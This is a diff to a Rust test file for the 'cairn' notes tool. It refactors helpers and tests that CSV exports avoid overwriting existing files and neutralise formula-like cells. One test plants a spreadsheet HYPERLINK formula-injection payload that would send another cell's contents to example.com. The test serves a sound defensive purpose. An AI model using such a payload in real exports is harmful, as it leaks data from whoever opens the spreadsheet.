@@ -3,66 +3,9 @@
 //! SQLite).
 
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
 
-type TestResult = Result<(), Box<dyn std::error::Error>>;
-
-fn cairn(data_dir: &Path, args: &[&str]) -> std::io::Result<Output> {
-    Command::new(env!("CARGO_BIN_EXE_cairn"))
-        .arg("--data-dir")
-        .arg(data_dir)
-        .args(args)
-        .env_remove("CAIRN_DATA_DIR")
-        .output()
-}
-
-fn text(bytes: &[u8]) -> String {
-    String::from_utf8_lossy(bytes).into_owned()
-}
-
-/// Runs cairn and insists it succeeded.
-fn ok(data_dir: &Path, args: &[&str]) -> Result<String, Box<dyn std::error::Error>> {
-    let output = cairn(data_dir, args)?;
-    assert!(
-        output.status.success(),
-        "cairn {args:?} failed: {}{}",
-        text(&output.stdout),
-        text(&output.stderr)
-    );
-    Ok(text(&output.stdout))
-}
-
-/// Runs cairn and insists it failed with `code`; returns stderr.
-fn refused(data_dir: &Path, args: &[&str], code: &str) -> Result<String, Box<dyn std::error::Error>> {
-    let output = cairn(data_dir, args)?;
-    let stderr = text(&output.stderr);
-    assert!(
-        !output.status.success(),
-        "cairn {args:?} should fail: {}",
-        text(&output.stdout)
-    );
-    assert!(
-        stderr.contains(&format!("[{code}]")),
-        "cairn {args:?} fails with {code}: {stderr}"
-    );
-    Ok(stderr)
-}
-
-fn small_demo(root: &Path) -> Result<PathBuf, Box<dyn std::error::Error>> {
-    let dir = root.join("data");
-    ok(&dir, &["demo", "--scale", "small"])?;
-    Ok(dir)
-}
-
-fn tool(program: &str, args: &[&str]) -> Result<String, Box<dyn std::error::Error>> {
-    let output = Command::new(program).args(args).output()?;
-    assert!(
-        output.status.success(),
-        "{program} {args:?}: {}",
-        text(&output.stderr)
-    );
-    Ok(text(&output.stdout))
-}
+mod common;
+use common::*;
 
 fn note_ids(dir: &Path, count: usize) -> Result<Vec<i64>, Box<dyn std::error::Error>> {
     let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
@@ -239,11 +182,31 @@ fn the_html_report_is_one_file_with_no_external_reference_and_the_markdown_says_
 fn csv_files_parse_with_a_real_reader_one_per_kind() -> TestResult {
     let tmp = tempfile::tempdir()?;
     let dir = small_demo(tmp.path())?;
-    let out = tmp.path().join("csv");
-    ok(
-        &dir,
-        &["export", "--format", "csv", "--out", &out.display().to_string()],
+    let parent = tmp.path().join("csv");
+    std::fs::create_dir(&parent)?;
+    // A notes.csv already in the chosen folder is never overwritten: the files go into a new folder.
+    std::fs::write(parent.join("notes.csv"), "mine")?;
+    let today = jiff::ZonedDateTime::now().date();
+    std::fs::create_dir(parent.join(format!("cairn-csv-{today}")))?;
+    // One note is titled like a formula: it must stay text and read back exactly.
+    let formula = "=HYPERLINK(\"https://example.com/?\"&I2,\"Open\")";
+    rusqlite::Connection::open(dir.join("cairn.sqlite3"))?.execute(
+        "UPDATE note SET title = ?1 WHERE id = (SELECT min(id) FROM note WHERE deleted_at IS NULL)",
+        [formula],
     )?;
+    let printed = ok(
+        &dir,
+        &[
+            "export",
+            "--format",
+            "csv",
+            "--out",
+            &parent.display().to_string(),
+        ],
+    )?;
+    let out = parent.join(format!("cairn-csv-{today}-2"));
+    assert!(printed.contains(&out.display().to_string()), "{printed}");
+    assert_eq!(std::fs::read_to_string(parent.join("notes.csv"))?, "mine");
     let conn = rusqlite::Connection::open(dir.join("cairn.sqlite3"))?;
     let count = |sql: &str| conn.query_row(sql, [], |row| row.get::<_, i64>(0).map(|n| n as usize));
     let expected = [
@@ -293,13 +256,30 @@ fn csv_files_parse_with_a_real_reader_one_per_kind() -> TestResult {
     let found = reader
         .records()
         .filter_map(Result::ok)
-        .find(|r| r.get(title_at) == Some(title.as_str()))
+        .find(|r| r.get(title_at).map(cairn_report::csv_files::read_cell) == Some(title.as_str()))
         .ok_or("the note is in notes.csv")?;
+    // A Markdown list starts with "- ", which a spreadsheet would take for a formula: it is neutralised, and the
+    // reader gets the text back exactly.
     assert_eq!(
-        found.get(body_at),
+        found.get(body_at).map(cairn_report::csv_files::read_cell),
         Some(body.as_str()),
         "the body survives quoting"
     );
+    let titles: Vec<String> = csv::Reader::from_reader(&bytes[3..])
+        .records()
+        .filter_map(Result::ok)
+        .filter_map(|r| r.get(title_at).map(str::to_owned))
+        .collect();
+    let neutralised = titles
+        .iter()
+        .find(|t| t.contains("HYPERLINK"))
+        .ok_or("the formula-like title")?;
+    assert_eq!(
+        neutralised,
+        &format!("'{formula}"),
+        "a spreadsheet reads it as text"
+    );
+    assert_eq!(cairn_report::csv_files::read_cell(neutralised), formula);
     Ok(())
 }
 
@@ -692,6 +672,7 @@ fn backups_restore_with_the_current_database_kept_and_bad_backups_are_refused() 
     assert!(stdout.contains("backups"), "{stdout}");
     let listed: Vec<_> = std::fs::read_dir(dir.join("backups"))?
         .filter_map(Result::ok)
+        .filter(|entry| entry.file_name().to_string_lossy().ends_with(".sqlite3"))
         .collect();
     assert_eq!(listed.len(), 1, "one backup in the folder");
     let name = listed[0].file_name().to_string_lossy().into_owned();
